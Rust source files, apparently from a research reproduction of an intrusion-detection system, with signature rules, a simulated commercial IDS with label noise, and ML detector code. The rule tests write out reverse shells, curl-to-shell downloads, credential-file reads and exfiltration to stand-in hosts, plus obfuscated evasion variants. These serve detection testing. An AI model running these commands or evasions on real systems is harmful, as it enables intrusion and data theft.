//! assert!(!ids.is_alert("nc -ulp 4444"));          // out-of-box variant
//! assert!(!ids.is_alert("ls -la /tmp"));           // benign
//! ```

pub mod engine;
pub mod pattern;
pub mod rules;

pub use engine::{NoiseConfig, RuleIds, Verdict};
pub use pattern::glob_match;
pub use rules::{default_rules, Condition, Rule};
