//! Minimal glob matching (`*` and `?`) used by IDS signatures.

/// Matches `text` against `pattern`, where `*` matches any run of
/// characters (including empty) and `?` matches exactly one.
///
/// ```
/// use ids_rules::glob_match;
/// assert!(glob_match("https_proxy=http://*", "https_proxy=http://1.2.3.4:80"));
/// assert!(!glob_match("https_proxy=http://*", "https_proxy=socks5://x"));
/// ```
pub fn glob_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    // Iterative two-pointer algorithm with backtracking on `*`.
    let (mut pi, mut ti) = (0usize, 0usize);
    let (mut star, mut star_t) = (usize::MAX, 0usize);
    while ti < t.len() {
        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '*' {
            star = pi;
            star_t = ti;
            pi += 1;
        } else if star != usize::MAX {
            pi = star + 1;
            star_t += 1;
            ti = star_t;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '*' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_match() {
        assert!(glob_match("abc", "abc"));
        assert!(!glob_match("abc", "abd"));
        assert!(!glob_match("abc", "ab"));
        assert!(!glob_match("ab", "abc"));
    }

    #[test]
    fn star_matches_any_run() {
        assert!(glob_match("a*c", "ac"));
        assert!(glob_match("a*c", "abbbc"));
        assert!(glob_match("*", ""));
        assert!(glob_match("*", "anything"));
        assert!(glob_match("*.sh", "install.sh"));
        assert!(!glob_match("*.sh", "install.sha"));
    }

    #[test]
    fn question_matches_one() {
        assert!(glob_match("a?c", "abc"));
        assert!(!glob_match("a?c", "ac"));
        assert!(!glob_match("a?c", "abbc"));
    }

    #[test]
    fn multiple_stars() {
        assert!(glob_match("*base64*bash*", "echo x | base64 -d | bash -i"));
        assert!(!glob_match("*base64*bash*", "echo x | bash | openssl"));
    }

    #[test]
    fn backtracking_works() {
        assert!(glob_match("*aab", "aaab"));
        assert!(glob_match("a*a*b", "axaxb"));
        assert!(!glob_match("a*a*b", "axb"));
    }

    #[test]
    fn empty_pattern_and_text() {
        assert!(glob_match("", ""));
        assert!(!glob_match("", "x"));
        assert!(glob_match("***", ""));
    }
}
