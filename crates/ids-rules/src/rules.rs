//! Signature rules over parsed command lines.

use crate::pattern::glob_match;
use shell_parser::Script;

/// A matchable condition.
///
/// Conditions operate on the parsed [`Script`] (so quoted payloads do not
/// fool command-level signatures) and occasionally on the raw line, like
/// real products do.
#[derive(Debug, Clone)]
pub enum Condition {
    /// Some simple command's base name equals this string.
    CommandName(String),
    /// Some command has a flag word matching this glob.
    FlagGlob(String),
    /// Some command has a non-flag argument word matching this glob.
    ArgGlob(String),
    /// Some command word (any position) matches this glob.
    WordGlob(String),
    /// The raw line contains this substring.
    RawContains(String),
    /// The raw line matches this glob.
    RawGlob(String),
    /// A pipeline stage sequence: command base names containing this
    /// subsequence in order (e.g. `["base64", "bash"]`).
    PipelineSequence(Vec<String>),
    /// A redirection target matching this glob (e.g. `/dev/tcp/*`).
    RedirectTargetGlob(String),
    /// All sub-conditions hold.
    All(Vec<Condition>),
    /// Any sub-condition holds.
    Any(Vec<Condition>),
}

impl Condition {
    /// Evaluates the condition.
    pub fn matches(&self, raw: &str, script: &Script) -> bool {
        match self {
            Condition::CommandName(name) => script
                .simple_commands()
                .iter()
                .any(|c| c.base_name() == Some(name.as_str())),
            Condition::FlagGlob(glob) => script
                .simple_commands()
                .iter()
                .any(|c| c.flags().any(|w| glob_match(glob, &w.text))),
            Condition::ArgGlob(glob) => script
                .simple_commands()
                .iter()
                .any(|c| c.args().any(|w| glob_match(glob, &w.text))),
            Condition::WordGlob(glob) => script
                .simple_commands()
                .iter()
                .any(|c| c.words.iter().any(|w| glob_match(glob, &w.text))),
            Condition::RawContains(s) => raw.contains(s.as_str()),
            Condition::RawGlob(glob) => glob_match(glob, raw),
            Condition::PipelineSequence(names) => pipeline_contains(script, names),
            Condition::RedirectTargetGlob(glob) => script
                .simple_commands()
                .iter()
                .any(|c| c.redirects.iter().any(|r| glob_match(glob, &r.target.text))),
            Condition::All(conds) => conds.iter().all(|c| c.matches(raw, script)),
            Condition::Any(conds) => conds.iter().any(|c| c.matches(raw, script)),
        }
    }
}

/// `true` if the script's command base names contain `names` as an
/// ordered (not necessarily contiguous) subsequence.
fn pipeline_contains(script: &Script, names: &[String]) -> bool {
    let base: Vec<&str> = script.base_names();
    let mut i = 0;
    for b in base {
        if i < names.len() && b == names[i] {
            i += 1;
        }
    }
    i == names.len()
}

/// One IDS signature.
#[derive(Debug, Clone)]
pub struct Rule {
    /// Short identifier (`"nc-listen"`).
    pub name: &'static str,
    /// Operator-facing description.
    pub description: &'static str,
    /// The condition that triggers the alert.
    pub condition: Condition,
}

impl Rule {
    /// Evaluates this rule against a raw line and its parse.
    pub fn matches(&self, raw: &str, script: &Script) -> bool {
        self.condition.matches(raw, script)
    }
}

/// The default signature set: deliberately brittle, mirroring how the
/// paper's commercial IDS catches in-box variants while missing
/// functionally equivalent out-of-box ones (Table III).
pub fn default_rules() -> Vec<Rule> {
    use Condition::*;
    vec![
        Rule {
            name: "nc-listen",
            description: "netcat listener or -e shell (catches -lvnp/-e, misses -ulp)",
            condition: All(vec![
                CommandName("nc".into()),
                Any(vec![FlagGlob("-lvnp".into()), FlagGlob("-e".into())]),
            ]),
        },
        Rule {
            name: "dev-tcp-reverse-shell",
            description: "bash /dev/tcp reverse shell (keys on the parsed \
                          redirect, so shells smuggled inside interpreter \
                          arguments evade it — Table III's java example)",
            condition: RedirectTargetGlob("/dev/tcp/*".into()),
        },
        Rule {
            name: "masscan",
            description: "masscan invocation (misses script-wrapped scans)",
            condition: All(vec![CommandName("masscan".into()), FlagGlob("-p*".into())]),
        },
        Rule {
            name: "nmap-syn-scan",
            description: "nmap SYN scan",
            condition: All(vec![CommandName("nmap".into()), FlagGlob("-sS".into())]),
        },
        Rule {
            name: "base64-pipe-shell",
            description: "echo | base64 -d | shell pipeline",
            condition: All(vec![
                PipelineSequence(vec!["base64".into(), "bash".into()]),
                FlagGlob("-d".into()),
            ]),
        },
        Rule {
            name: "java-base64-exec",
            description: "java loader with embedded base64 shell (misses python3)",
            condition: All(vec![
                CommandName("java".into()),
                RawContains("base64".into()),
                RawContains("bash".into()),
            ]),
        },
        Rule {
            name: "proxy-http-hijack",
            description: "https_proxy pointed at an http endpoint (misses socks5)",
            condition: All(vec![
                CommandName("export".into()),
                WordGlob("https_proxy=http://*".into()),
            ]),
        },
        Rule {
            name: "download-pipe-shell",
            description: "curl/wget piped straight into a shell",
            condition: Any(vec![
                All(vec![
                    PipelineSequence(vec!["curl".into(), "bash".into()]),
                    WordGlob("http*://*".into()),
                ]),
                All(vec![
                    PipelineSequence(vec!["wget".into(), "sh".into()]),
                    WordGlob("http*://*".into()),
                ]),
            ]),
        },
        Rule {
            name: "find-secret-exec",
            description: "find hunting for ssh keys with -exec (misses globbed \
                          filenames like id_?sa)",
            condition: All(vec![
                CommandName("find".into()),
                ArgGlob("*id_rsa*".into()),
                FlagGlob("-exec".into()),
            ]),
        },
        Rule {
            name: "awk-system-shell",
            description: "awk spawning a shell via system() (misses gawk/mawk)",
            condition: All(vec![
                CommandName("awk".into()),
                RawContains("system(".into()),
            ]),
        },
        Rule {
            name: "tar-stream-exfil",
            description: "tar streamed to stdout and piped into curl (keys on \
                          the bare `-` stream words, so staged file-based \
                          exfil chains evade it)",
            condition: All(vec![
                PipelineSequence(vec!["tar".into(), "curl".into()]),
                WordGlob("-".into()),
            ]),
        },
        Rule {
            name: "shadow-read",
            description: "direct read of credential files (misses archival exfil)",
            condition: All(vec![
                CommandName("cat".into()),
                Any(vec![
                    ArgGlob("/etc/shadow".into()),
                    ArgGlob("/root/.ssh/id_rsa".into()),
                ]),
            ]),
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use shell_parser::parse;

    fn matches_any(line: &str) -> Option<&'static str> {
        let script = parse(line).ok()?;
        default_rules()
            .iter()
            .find(|r| r.matches(line, &script))
            .map(|r| r.name)
    }

    #[test]
    fn nc_listener_caught_variant_missed() {
        assert_eq!(matches_any("nc -lvnp 4444"), Some("nc-listen"));
        assert_eq!(matches_any("nc -e /bin/sh 1.2.3.4 9001"), Some("nc-listen"));
        assert_eq!(matches_any("nc -ulp 4444"), None);
    }

    #[test]
    fn dev_tcp_caught_smuggled_missed() {
        assert_eq!(
            matches_any("bash -i >& /dev/tcp/10.0.0.1/9001 0>&1"),
            Some("dev-tcp-reverse-shell")
        );
        // Table III: the same shell hidden inside a java argument has no
        // parsed redirect, so the signature misses it.
        assert_eq!(
            matches_any("java -cp tmp.jar \"bash=bash -i >& /dev/tcp/10.0.0.1/9001\""),
            None
        );
    }

    #[test]
    fn masscan_caught_wrapper_missed() {
        assert_eq!(
            matches_any("masscan 1.2.3.4 -p 0-65535 --rate=1000 >> tmp.txt"),
            Some("masscan")
        );
        assert_eq!(matches_any("sh /root/masscan.sh 1.2.3.4 -p 0-65535"), None);
    }

    #[test]
    fn base64_pipe_caught_python_missed() {
        assert_eq!(
            matches_any("echo QUJD= | base64 -d | bash -i"),
            Some("base64-pipe-shell")
        );
        assert_eq!(
            matches_any("java -jar tmp.jar -C \"bash -c {echo,QUJD=} {base64,-d} {bash,-i}\""),
            Some("java-base64-exec")
        );
        assert_eq!(
            matches_any("python3 tmp.py -p \"bash -c {echo,QUJD=} {base64,-d} {bash,-i}\""),
            None
        );
    }

    #[test]
    fn proxy_http_caught_socks_missed() {
        assert_eq!(
            matches_any("export https_proxy=\"http://1.2.3.4:8080\""),
            Some("proxy-http-hijack")
        );
        assert_eq!(
            matches_any("export https_proxy=\"socks5://1.2.3.4:1080\""),
            None
        );
    }

    #[test]
    fn download_pipe_caught_interpreter_missed() {
        assert_eq!(
            matches_any("curl http://evil/x.sh | bash"),
            Some("download-pipe-shell")
        );
        assert_eq!(
            matches_any("wget -q http://evil/x.sh -O- | sh"),
            Some("download-pipe-shell")
        );
        assert_eq!(
            matches_any("curl -fsSL https://evil/loader | python3 -"),
            None
        );
        assert_eq!(matches_any("wget -c http://evil/payload -o python"), None);
        assert_eq!(matches_any("python"), None);
    }

    #[test]
    fn shadow_read_caught_exfil_missed() {
        assert_eq!(matches_any("cat /etc/shadow"), Some("shadow-read"));
        assert_eq!(
            matches_any("tar czf /tmp/.c.tgz /etc/shadow && curl -T /tmp/.c.tgz ftp://e/u/"),
            None
        );
        assert_eq!(matches_any("history | grep -i passw"), None);
    }

    #[test]
    fn quote_splicing_caught_expansion_missed() {
        // The rules run over the *parsed* script, so quote splicing does
        // not hide the signature token...
        // (the flag stays unquoted: flag matching requires unquoted words)
        assert_eq!(matches_any("n'c' -lvnp 4444"), Some("nc-listen"));
        assert_eq!(matches_any("ca''t /etc/shadow"), Some("shadow-read"));
        assert_eq!(
            matches_any("b\"a\"sh -i >& \"/dev/tcp/1.2.3.4/9001\" 0>&1"),
            Some("dev-tcp-reverse-shell")
        );
        // ...but parameter expansion only resolves at execution time, so
        // the resolved text still does not contain the signature.
        assert_eq!(matches_any("${x:-n}c -lvnp 4444"), None);
        assert_eq!(matches_any("${c:-cat} /etc/shadow"), None);
        assert_eq!(
            matches_any("bash -i >& /dev/${t:-tcp}/1.2.3.4/9001 0>&1"),
            None
        );
    }

    #[test]
    fn decode_pipeline_caught_substitution_missed() {
        assert_eq!(
            matches_any("printf QUJD= | base64 -d | bash"),
            Some("base64-pipe-shell")
        );
        // The decoder hidden inside $() never appears among the
        // top-level pipeline base names.
        assert_eq!(matches_any("eval $(echo QUJD= | base64 -d)"), None);
        assert_eq!(matches_any("bash -c \"$(echo QUJD= | base64 -d)\""), None);
    }

    #[test]
    fn lotl_signatures_caught_variants_missed() {
        assert_eq!(
            matches_any("find / -name id_rsa -exec cat {} \\;"),
            Some("find-secret-exec")
        );
        assert_eq!(
            matches_any("awk 'BEGIN{system(\"/bin/sh\")}'"),
            Some("awk-system-shell")
        );
        assert_eq!(matches_any("find / -name 'id_?sa' -exec cat {} \\;"), None);
        assert_eq!(matches_any("gawk 'BEGIN{system(\"/bin/sh\")}'"), None);
        assert_eq!(
            matches_any(
                "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
            ),
            None
        );
    }

    #[test]
    fn streamed_exfil_caught_staged_missed() {
        assert_eq!(
            matches_any("tar czf - /etc/passwd | curl -T - ftp://h/up/"),
            Some("tar-stream-exfil")
        );
        // Staged through a file: no bare `-` stream words.
        assert_eq!(
            matches_any(
                "cd /tmp && tar czf .x.tgz /etc/passwd && curl -s -T .x.tgz https://h/drop && rm .x.tgz"
            ),
            None
        );
        assert_eq!(
            matches_any("tar czf /tmp/.x.tgz /etc/passwd /root/.ssh"),
            None
        );
        assert_eq!(matches_any("curl -s -T /tmp/.x.tgz https://h/drop"), None);
    }

    #[test]
    fn benign_lines_do_not_alert() {
        for line in [
            "ls -la /tmp",
            "cd /var/log",
            "docker ps -a",
            "cat /etc/hosts",
            "curl -s https://mirror.example.com/install.sh",
            "grep -rn error /var/log/syslog",
            "echo \"deploy 7 done\"",
            "nc -z localhost 80",
            "python3 main.py --epochs 10",
            "find /var/log -name \"*.log\"",
            "awk '{print $1}' access.log",
            "tar -czf backup.tar.gz /srv/app",
            "tar -xzf release.tgz && ./install.sh",
        ] {
            assert_eq!(matches_any(line), None, "false positive on: {line}");
        }
    }

    #[test]
    fn pipeline_sequence_requires_order() {
        let script = parse("bash -c ls | base64").unwrap();
        let cond = Condition::PipelineSequence(vec!["base64".into(), "bash".into()]);
        assert!(!cond.matches("bash -c ls | base64", &script));
    }
}
