//! The black-box labeling engine with deterministic noise.

use crate::rules::{default_rules, Rule};
use shell_parser::parse;
use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};

/// Label-noise configuration.
///
/// Beyond the structural noise of missing every out-of-box variant, real
/// commercial IDSes occasionally drop alerts (sampling, throttling) and
/// occasionally alert on benign lines (overbroad rules). Noise here is a
/// **deterministic function of the line**, so the black box answers
/// consistently when queried twice — exactly how a fixed external product
/// behaves.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct NoiseConfig {
    /// Probability an alert is dropped (false negative).
    pub false_negative_rate: f64,
    /// Probability a benign line is flagged (false positive).
    pub false_positive_rate: f64,
    /// Seed mixed into the per-line hash.
    pub seed: u64,
}

impl Default for NoiseConfig {
    fn default() -> Self {
        // False negatives only: the paper's supervision noise is missed
        // detections, and Section V-B explicitly assumes the commercial
        // IDS has 100% precision. A false-positive rate can be opted
        // into for robustness experiments.
        NoiseConfig {
            false_negative_rate: 0.02,
            false_positive_rate: 0.0,
            seed: 0x1D5_CAFE,
        }
    }
}

impl NoiseConfig {
    /// A noiseless configuration (pure signature behaviour).
    pub fn none() -> Self {
        NoiseConfig {
            false_negative_rate: 0.0,
            false_positive_rate: 0.0,
            seed: 0,
        }
    }
}

/// The verdict for one line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// An alert, with the triggering rule (or `"noise"` for injected
    /// false positives).
    Alert {
        /// Name of the rule that fired.
        rule: &'static str,
    },
    /// No alert.
    Clean,
}

impl Verdict {
    /// `true` if this is an alert.
    pub fn is_alert(&self) -> bool {
        matches!(self, Verdict::Alert { .. })
    }
}

/// The simulated commercial IDS.
///
/// Construct with [`RuleIds::with_default_rules`] or supply a custom rule
/// set; query with [`RuleIds::verdict`] / [`RuleIds::is_alert`].
#[derive(Debug, Clone)]
pub struct RuleIds {
    rules: Vec<Rule>,
    noise: NoiseConfig,
}

impl RuleIds {
    /// The default signature set with default noise.
    pub fn with_default_rules() -> Self {
        RuleIds {
            rules: default_rules(),
            noise: NoiseConfig::default(),
        }
    }

    /// The default signatures with *no* noise (pure rules).
    pub fn noiseless() -> Self {
        RuleIds {
            rules: default_rules(),
            noise: NoiseConfig::none(),
        }
    }

    /// A custom rule set.
    pub fn new(rules: Vec<Rule>, noise: NoiseConfig) -> Self {
        RuleIds { rules, noise }
    }

    /// Replaces the noise configuration.
    pub fn with_noise(mut self, noise: NoiseConfig) -> Self {
        self.noise = noise;
        self
    }

    /// The active rules.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Labels one line.
    ///
    /// Unparseable lines are `Clean`: the commercial IDS cannot execute
    /// them either.
    pub fn verdict(&self, line: &str) -> Verdict {
        let Ok(script) = parse(line) else {
            return Verdict::Clean;
        };
        let fired = self.rules.iter().find(|r| r.matches(line, &script));
        match fired {
            Some(rule) => {
                if self.coin(line, 0xA1) < self.noise.false_negative_rate {
                    Verdict::Clean
                } else {
                    Verdict::Alert { rule: rule.name }
                }
            }
            None => {
                if self.coin(line, 0xB2) < self.noise.false_positive_rate {
                    Verdict::Alert { rule: "noise" }
                } else {
                    Verdict::Clean
                }
            }
        }
    }

    /// Convenience: `true` if [`RuleIds::verdict`] alerts.
    pub fn is_alert(&self, line: &str) -> bool {
        self.verdict(line).is_alert()
    }

    /// Labels a batch of lines (`true` = alert), the "querying the
    /// commercial IDS in a black-box manner" step of Section IV.
    pub fn label_batch<'a>(&self, lines: impl IntoIterator<Item = &'a str>) -> Vec<bool> {
        lines.into_iter().map(|l| self.is_alert(l)).collect()
    }

    /// Deterministic per-line uniform draw in `[0, 1)`.
    fn coin(&self, line: &str, salt: u64) -> f64 {
        let mut h = DefaultHasher::new();
        self.noise.seed.hash(&mut h);
        salt.hash(&mut h);
        line.hash(&mut h);
        (h.finish() >> 11) as f64 / (1u64 << 53) as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::{AttackFamily, AttackGenerator, Variant};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn verdicts_are_deterministic() {
        let ids = RuleIds::with_default_rules();
        for line in ["nc -lvnp 4444", "ls -la", "cat /etc/shadow"] {
            assert_eq!(ids.verdict(line), ids.verdict(line));
        }
    }

    #[test]
    fn noiseless_catches_every_in_box_variant() {
        let ids = RuleIds::noiseless();
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(1);
        for family in AttackFamily::ALL {
            for _ in 0..40 {
                let s = g.generate(&mut rng, family, Variant::InBox);
                let caught = s.lines.iter().any(|l| ids.is_alert(l));
                assert!(caught, "in-box {family} evaded rules: {:?}", s.lines);
            }
        }
    }

    #[test]
    fn noiseless_misses_every_out_of_box_variant() {
        let ids = RuleIds::noiseless();
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(2);
        for family in AttackFamily::ALL {
            for _ in 0..40 {
                let s = g.generate(&mut rng, family, Variant::OutOfBox);
                for line in &s.lines {
                    assert!(
                        !ids.is_alert(line),
                        "out-of-box {family} was caught: {line}"
                    );
                }
            }
        }
    }

    #[test]
    fn noiseless_is_silent_on_benign() {
        let ids = RuleIds::noiseless();
        let g = corpus::BenignGenerator::new();
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..2_000 {
            let line = g.generate(&mut rng);
            assert!(!ids.is_alert(&line), "false positive: {line}");
        }
    }

    #[test]
    fn unparseable_lines_are_clean() {
        let ids = RuleIds::with_default_rules();
        assert_eq!(ids.verdict("/*/*/* -> /*/*/* ->"), Verdict::Clean);
        assert_eq!(ids.verdict("echo 'oops"), Verdict::Clean);
    }

    #[test]
    fn false_negatives_occur_at_configured_rate() {
        let noise = NoiseConfig {
            false_negative_rate: 0.5,
            false_positive_rate: 0.0,
            seed: 99,
        };
        let ids = RuleIds::with_default_rules().with_noise(noise);
        // Many distinct in-box lines; about half should be dropped.
        let g = AttackGenerator::new();
        let mut rng = StdRng::seed_from_u64(4);
        let mut total = 0;
        let mut missed = 0;
        for _ in 0..400 {
            let s = g.generate(&mut rng, AttackFamily::ReverseShell, Variant::InBox);
            for line in &s.lines {
                total += 1;
                if !ids.is_alert(line) {
                    missed += 1;
                }
            }
        }
        let rate = missed as f64 / total as f64;
        assert!((0.3..0.7).contains(&rate), "miss rate {rate}");
    }

    #[test]
    fn false_positives_occur_at_configured_rate() {
        let noise = NoiseConfig {
            false_negative_rate: 0.0,
            false_positive_rate: 0.2,
            seed: 7,
        };
        let ids = RuleIds::with_default_rules().with_noise(noise);
        let g = corpus::BenignGenerator::new();
        let mut rng = StdRng::seed_from_u64(5);
        let mut flagged = 0;
        let n = 2_000;
        for _ in 0..n {
            if ids.is_alert(&g.generate(&mut rng)) {
                flagged += 1;
            }
        }
        let rate = flagged as f64 / n as f64;
        assert!((0.1..0.3).contains(&rate), "fp rate {rate}");
    }

    #[test]
    fn batch_labels_match_single_queries() {
        let ids = RuleIds::with_default_rules();
        let lines = ["nc -lvnp 1", "ls", "cat /etc/shadow"];
        let batch = ids.label_batch(lines.iter().copied());
        for (line, label) in lines.iter().zip(&batch) {
            assert_eq!(ids.is_alert(line), *label);
        }
    }
}
