//! The shared embedding store: each `(line set, pooling, max_len)`
//! matrix is computed exactly once.

use crate::embed::{embed_lines, Pooling};
use crate::pipeline::IdsPipeline;
use anomaly::EmbeddingView;
use std::collections::hash_map::DefaultHasher;
use std::collections::HashMap;
use std::hash::{Hash, Hasher};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
struct StoreKey {
    lines_hash: u64,
    line_count: usize,
    pooling: Pooling,
    max_len: usize,
}

/// Memoizes embedding matrices over a frozen pipeline.
///
/// Methods sharing a pipeline ask the store for views instead of
/// calling [`embed_lines`] themselves; the first request for a given
/// `(line set, pooling, max_len)` runs the encoder, every later
/// request is an `Arc` clone. [`EmbeddingStore::hits`] /
/// [`EmbeddingStore::misses`] expose the cache behaviour so "the test
/// split is embedded exactly once" is a testable claim, not a hope.
///
/// Line sets are keyed by a 64-bit hash of their contents (plus the
/// line count); a collision between two *different* line sets of equal
/// length is vanishingly unlikely and would only surface as reused
/// embeddings.
pub struct EmbeddingStore<'p> {
    pipeline: &'p IdsPipeline,
    cache: Mutex<HashMap<StoreKey, Arc<OnceLock<EmbeddingView>>>>,
    hits: AtomicUsize,
    misses: AtomicUsize,
}

impl<'p> EmbeddingStore<'p> {
    /// An empty store over a frozen pipeline.
    pub fn new(pipeline: &'p IdsPipeline) -> Self {
        EmbeddingStore {
            pipeline,
            cache: Mutex::new(HashMap::new()),
            hits: AtomicUsize::new(0),
            misses: AtomicUsize::new(0),
        }
    }

    /// The pipeline whose encoder backs this store.
    pub fn pipeline(&self) -> &'p IdsPipeline {
        self.pipeline
    }

    /// The view for `lines` under `pooling`, embedding on first use.
    ///
    /// Concurrent requests for the same key rendezvous on one slot:
    /// exactly one caller runs the encoder, the rest block on the slot
    /// and count as hits, so "embedded exactly once" holds under
    /// parallel use too. Distinct keys embed in parallel (the map lock
    /// is only held to find or create the slot).
    pub fn view(&self, lines: &[&str], pooling: Pooling) -> EmbeddingView {
        let max_len = self.pipeline.max_len();
        let key = StoreKey {
            lines_hash: hash_lines(lines),
            line_count: lines.len(),
            pooling,
            max_len,
        };
        let slot = self.cache.lock().unwrap().entry(key).or_default().clone();
        let mut computed = false;
        let view = slot.get_or_init(|| {
            computed = true;
            self.misses.fetch_add(1, Ordering::Relaxed);
            let matrix = embed_lines(
                self.pipeline.encoder(),
                self.pipeline.tokenizer(),
                lines,
                max_len,
                pooling,
            );
            EmbeddingView::new(lines.iter().map(|s| s.to_string()).collect(), matrix)
        });
        if !computed {
            self.hits.fetch_add(1, Ordering::Relaxed);
        }
        view.clone()
    }

    /// [`EmbeddingStore::view`] over owned strings.
    pub fn view_of(&self, lines: &[String], pooling: Pooling) -> EmbeddingView {
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        self.view(&refs, pooling)
    }

    /// Cache hits so far (requests answered without running the encoder).
    pub fn hits(&self) -> usize {
        self.hits.load(Ordering::Relaxed)
    }

    /// Cache misses so far (encoder passes actually run).
    pub fn misses(&self) -> usize {
        self.misses.load(Ordering::Relaxed)
    }

    /// Number of distinct matrices currently memoized.
    pub fn len(&self) -> usize {
        self.cache.lock().unwrap().len()
    }

    /// Whether nothing has been embedded yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn hash_lines(lines: &[&str]) -> u64 {
    let mut h = DefaultHasher::new();
    for line in lines {
        line.hash(&mut h);
    }
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::PipelineConfig;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn tiny_pipeline() -> IdsPipeline {
        let mut rng = StdRng::seed_from_u64(5);
        let config = PipelineConfig::fast();
        let dataset = config.generate_dataset(&mut rng);
        IdsPipeline::pretrain(&config, &dataset, &mut rng)
    }

    #[test]
    fn second_request_hits_the_cache() {
        let pipeline = tiny_pipeline();
        let store = EmbeddingStore::new(&pipeline);
        let lines = ["ls -la /tmp", "cat /etc/hosts", "docker ps -a"];
        let a = store.view(&lines, Pooling::Mean);
        assert_eq!((store.hits(), store.misses()), (0, 1));
        let b = store.view(&lines, Pooling::Mean);
        assert_eq!((store.hits(), store.misses()), (1, 1));
        assert_eq!(a.matrix(), b.matrix());
        assert_eq!(a.lines(), lines.map(String::from));
    }

    #[test]
    fn pooling_and_line_set_key_separately() {
        let pipeline = tiny_pipeline();
        let store = EmbeddingStore::new(&pipeline);
        let lines = ["ls -la /tmp", "df -h"];
        let _ = store.view(&lines, Pooling::Mean);
        let _ = store.view(&lines, Pooling::Cls);
        let _ = store.view(&lines[..1], Pooling::Mean);
        assert_eq!(store.misses(), 3);
        assert_eq!(store.hits(), 0);
        assert_eq!(store.len(), 3);
    }

    #[test]
    fn norms_are_memoized_alongside_embeddings() {
        let pipeline = tiny_pipeline();
        let store = EmbeddingStore::new(&pipeline);
        let lines = ["ls -la /tmp", "cat /etc/hosts", "df -h"];
        let a = store.view(&lines, Pooling::Mean);
        assert!(!a.norms_computed(), "norms are lazy");
        let first = a.norms().as_ptr();
        // A second request returns the memoized view, whose norm cache
        // is already filled — an index built over it re-derives nothing.
        let b = store.view(&lines, Pooling::Mean);
        assert!(b.norms_computed());
        assert!(std::ptr::eq(first, b.norms().as_ptr()));
    }

    #[test]
    fn view_matches_direct_embedding() {
        let pipeline = tiny_pipeline();
        let store = EmbeddingStore::new(&pipeline);
        let lines = ["ls -la /tmp", "cat /etc/hosts"];
        let view = store.view(&lines, Pooling::Mean);
        let direct = embed_lines(
            pipeline.encoder(),
            pipeline.tokenizer(),
            &lines,
            pipeline.max_len(),
            Pooling::Mean,
        );
        assert_eq!(*view.matrix(), direct);
    }
}
