//! Supervised Section-IV methods behind the [`Detector`] trait.
//!
//! The unsupervised adapters live in `anomaly::detector`; the three
//! here need pieces of the pipeline beyond a fitted embedding space:
//!
//! * [`ClassificationMethod`] — probing head over frozen embeddings;
//!   fits entirely from the shared view.
//! * [`ReconstructionMethod`] — fine-tunes its own copy of the
//!   backbone (Eq. 2), so it reads the view's *lines* and re-embeds
//!   under the tuned encoder when scoring.
//! * [`MultiLineMethod`] — consumes context windows over the raw test
//!   stream (users + timestamps), so it carries its own records and
//!   its scores align to window-deduplication, not the shared view.
//!
//! Each adapter owns a seed and derives its RNG at fit time, which is
//! what makes an engine run reproducible and lets the equivalence
//! tests pin engine scores bit-for-bit against the legacy per-method
//! paths.

use crate::pipeline::IdsPipeline;
use crate::tuning::{
    build_windows, ClassificationTuner, MultiLineClassifier, ReconstructionConfig,
    ReconstructionTuner, TuneConfig,
};
use anomaly::{check_labels, Detector, DetectorError, EmbeddingView};
use corpus::LogRecord;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

/// Subsamples the labeled training set, keeping every positive and up
/// to `max_negatives` negatives — reconstruction tuning iterates
/// embeddings of the whole labeled set each round, so this bounds its
/// cost without touching the (few) positives.
pub fn subsample_labeled<'a, R: Rng + ?Sized>(
    rng: &mut R,
    lines: &[&'a str],
    labels: &[bool],
    max_negatives: usize,
) -> (Vec<&'a str>, Vec<bool>) {
    let mut pos: Vec<usize> = Vec::new();
    let mut neg: Vec<usize> = Vec::new();
    for (i, &y) in labels.iter().enumerate() {
        if y {
            pos.push(i);
        } else {
            neg.push(i);
        }
    }
    neg.shuffle(rng);
    neg.truncate(max_negatives);
    let mut idx = pos;
    idx.extend(neg);
    idx.shuffle(rng);
    (
        idx.iter().map(|&i| lines[i]).collect(),
        idx.iter().map(|&i| labels[i]).collect(),
    )
}

/// Classification-based tuning (paper Section IV-B) as a [`Detector`]:
/// a probing head fitted on the shared embedding view.
///
/// The caller is responsible for building the view with the pooling
/// this method's [`TuneConfig`] expects (see
/// [`ClassificationMethod::pooling`]).
#[derive(Debug)]
pub struct ClassificationMethod {
    config: TuneConfig,
    seed: u64,
    fitted: Option<ClassificationTuner>,
}

impl ClassificationMethod {
    /// A method fitting with `config`, deriving its RNG from `seed`.
    pub fn new(config: TuneConfig, seed: u64) -> Self {
        ClassificationMethod {
            config,
            seed,
            fitted: None,
        }
    }

    /// The pooling the embedding views must use.
    pub fn pooling(&self) -> crate::embed::Pooling {
        self.config.pooling
    }
}

impl Detector for ClassificationMethod {
    fn name(&self) -> &str {
        "classification"
    }

    fn pooling(&self) -> crate::embed::Pooling {
        self.config.pooling
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
